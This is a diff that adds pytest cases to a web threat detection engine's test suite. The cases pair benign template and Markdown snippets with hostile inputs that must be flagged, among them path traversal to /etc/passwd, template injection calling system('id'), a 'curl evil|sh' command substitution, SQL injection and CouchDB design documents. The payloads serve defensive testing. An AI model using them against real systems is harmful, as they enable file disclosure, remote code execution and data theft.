@@ -2489,3 +2489,53 @@ def test_bait_21_template_source(engine: DetectionEngine, value: str, flagged: b
 def test_third_review_of_session_16_exemptions(engine: DetectionEngine, value: str) -> None:
     """Each got through one of this session's later exemptions once."""
     assert engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # From bait 22: Markdown links and a sentence naming a sibling document, a directory whose
+    # name starts like a system one, a Handlebars partial, Twig's include() and path(), a
+    # Blade string helper, React's __html key, an axios Accept header, harmless http-equiv
+    # tags, SQL in a code span, a stderr redirection in a cron log, an application's folder.
+    ("Link to sibling pages, e.g. `[Setup](../setup/README.md)` or `[API](../../api/index.md)`.",
+     False),
+    ("[release]: ../process/release-checklist.md", False),
+    ("See ../../docs/CONTRIBUTING.md for the review process.", False),
+    ('{{> header title="Settings" }}\n<main>{{> settings-form }}</main>\n{{> footer }}', False),
+    ("Each card is {{ include('partials/_card.html.twig', { title: item.name, url: "
+     "path('item_show', { id: item.id }) }) }} in the loop", False),
+    ("@foreach ($posts as $post)\n    <h2>{{ $post->title }}</h2>\n    <p>{{ Str::limit("
+     "$post->body, 150) }}</p>\n@endforeach", False),
+    ("<div dangerouslySetInnerHTML={{ __html: sanitizedHtml }} />  // is that enough?", False),
+    ("Accept: application/json, text/plain, */*", False),
+    ('<meta http-equiv="X-UA-Compatible" content="IE=edge">\n<meta http-equiv='
+     "\"Content-Security-Policy\" content=\"default-src 'self'\">", False),
+    ("| Operator | Example |\n|---|---|\n| `=` | `status = 'open'` |\n| `OR` | `a = 1 OR b = 2` "
+     "|\n| `IN` | `id IN (1, 2, 3)` |", False),
+    ("CRON[28811]: (root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)", False),
+    (r"C:\Program Files (x86)\Common Files\Oracle\Java\javapath\java.exe", False),
+    # The same shapes where they reach something: a sensitive file behind a Markdown link, a
+    # climb of four, a partial handed the constructor, an include climbing out, a helper
+    # given a command, a refresh, a UTF-7 charset, a substitution that parses.
+    ("[x](../../etc/passwd)", True),
+    ("[x](../../../../app/config.yml)", True),
+    ("Use {{> x y=constructor }} in the page", True),
+    ('Use {{ include("../../x.twig") }} here', True),
+    ('{{ Str::limit(system("id"), 150) }}', True),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', True),
+    ('<meta http-equiv="Content-Type" content="text/html; charset=utf-7">', True),
+    ("x`id; (curl evil|sh)`", True),
+    ("admin' or 1=1 */*", True),
+])
+def test_bait_22_documents_and_templates(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize("value", [
+    # From attacks 22: a CouchDB design document, whose functions the server runs.
+    '{"_id":"_design/leak","views":{"all":{"map":"function(doc){emit(doc._id,doc)}"}}}',
+    '{"validate_doc_update": "function(newDoc, oldDoc, userCtx){}"}',
+])
+def test_couchdb_design_documents(engine: DetectionEngine, value: str) -> None:
+    assert engine.detect(value)["is_threat"]
